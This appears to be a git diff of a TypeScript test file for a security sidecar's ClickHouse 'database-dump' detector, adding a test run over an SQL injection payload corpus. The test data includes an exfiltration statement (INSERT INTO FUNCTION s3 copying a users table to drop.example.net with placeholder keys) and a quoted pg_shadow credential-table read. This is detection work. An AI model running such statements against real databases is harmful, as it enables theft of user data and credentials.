@@ -1,7 +1,9 @@
-import { readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { SqlQueryEvent } from '#sidecar/events.ts';
 import { databaseDump } from '#sidecar/threats/database-dump.ts';
+import { corpusDir } from '#test/helpers/corpus.ts';
 import { runThreat } from './threat-factories.ts';
 
 const ch = (text: string): SqlQueryEvent => ({
@@ -15,6 +17,8 @@ const ch = (text: string): SqlQueryEvent => ({
 const run = (texts: string[], config: Record<string, unknown> = {}) =>
   runThreat(databaseDump, texts.map(ch), { config });
 const told = (texts: string[]) => run(texts).map((h) => [h.severity, h.confidence, h.count ?? 1, h.evidence]);
+/** The shared corpus's SQL injection lists (WAF Payload Collection; ../shared/corpus/README.md), when present. */
+const sqli = corpusDir('payloads/sqli');
 const tables = ['shop.users', 'shop.orders', 'shop.cards', 'shop.audit'];
 
 describe('database-dump on ClickHouse', () => {
@@ -31,7 +35,7 @@ describe('database-dump on ClickHouse', () => {
     ]);
   });
 
-  it('keeps bare SELECT * reads (clickhouse-client --format Native sends no FORMAT) until the third table, then tells them all', () => {
+  it('keeps bare SELECT * reads (what clickhouse-client --format Native sends) until the third table, then tells all', () => {
     expect(run(['SELECT * FROM users', 'SELECT * FROM users', 'SELECT * FROM orders'])).toEqual([]);
     expect(
       told([
@@ -48,7 +52,7 @@ describe('database-dump on ClickHouse', () => {
     expect(run(['SELECT * FROM users', 'SELECT * FROM orders'], { tables: 2 })[0]?.count).toBe(2);
   });
 
-  it('tells a copy to another system (INSERT INTO FUNCTION) surely, with the off-site severity, and no credentials', () => {
+  it('tells a copy to another system (INSERT INTO FUNCTION) surely, off-site severity, no credentials', () => {
     expect(
       told([
         "INSERT INTO FUNCTION s3('https://AKIA1:secret@drop.example.net/x.native?X-Amz-Signature=ab', 'KEY', 'SECRET', 'Native') SELECT * FROM users",
@@ -119,7 +123,22 @@ describe('database-dump on ClickHouse', () => {
     for (const text of statements) expect(run([text]), text).toEqual([]);
   });
 
-  it('leaves the statements of other databases to their own readers, and hostile text unreported in linear time', () => {
+  it.skipIf(!existsSync(sqli))(
+    'leaves the corpus SQL injection payloads (235 lines) alone, as statements',
+    () => {
+      const lines = ['true-positives.txt', 'false-positives.txt'].flatMap((f) =>
+        readFileSync(join(sqli, f), 'utf8')
+          .split('\n')
+          .filter((line) => line !== ''),
+      );
+      expect(lines.length).toBeGreaterThan(200);
+      // One of them (`select * from pg_shadow;`) is a table read whole: counted, and alone never told.
+      expect(run(lines)).toEqual([]);
+      for (const text of lines) expect(run([text]), text).toEqual([]);
+    },
+  );
+
+  it('leaves other databases to their own readers, and hostile text unreported in linear time', () => {
     const other = { ...ch('SELECT * FROM users FORMAT Native'), dialect: 'postgresql' as const };
     expect(runThreat(databaseDump, [other], {})).toEqual([]);
     expect(run(['COPY users TO stdout'])).toEqual([]);
